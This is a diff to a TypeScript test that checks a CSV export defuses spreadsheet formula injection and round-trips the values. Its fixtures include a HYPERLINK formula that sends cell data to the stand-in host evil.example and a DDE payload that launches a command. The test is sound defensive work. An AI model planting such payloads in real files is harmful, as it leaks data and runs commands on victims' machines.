@@ -238,6 +238,24 @@ describe('offline files', () => {
 		expect(rows[0]![0]).toBe('id');
 		expect(new Set(rows.slice(1).map(r => r.length)).size).toBe(1);
 		expect(rows.length).toBe(20_001);
+
+		// Text a spreadsheet would run as a formula is disarmed with an apostrophe, and read back as it was.
+		const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1', "'=already", 'plain', '-12.5'];
+		const source = join(c.dir, 'formulas.ndjson');
+		await writeFile(source, formulas.map((f, i) => JSON.stringify({...tenant.signIns[i], userAgent: f, appDisplayName: f})).join('\n'));
+		const query: Query = {report: 'signins', filters: {}, order: 'newest'};
+		const csv = join(c.dir, 'formulas.csv');
+		await runExport({source: new FileSource(source, resolveQuery(query, TEST_NOW)), report: 'signins', format: 'csv', out: csv, queryKey: 'formulas'});
+		const table = parseCsv(await readFile(csv, 'utf8'));
+		const agent = table[0]!.indexOf('userAgent');
+		const cells = new Set(table.slice(1).map(r => r[agent]!));
+		for (const f of formulas) {
+			const disarmed = /^'*[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(\.\d+)?$/.test(f);
+			expect(cells.has(disarmed ? `'${f}` : f), f).toBe(true);
+		}
+		const back: string[] = [];
+		for await (const page of new FileSource(csv, resolveQuery(query, TEST_NOW)).pages()) back.push(...page.records.map(r => String(r['appDisplayName'])));
+		expect(back.sort()).toEqual([...formulas].sort());
 	});
 
 	it('Graph page files, as scripts save them, one page or several', async () => {
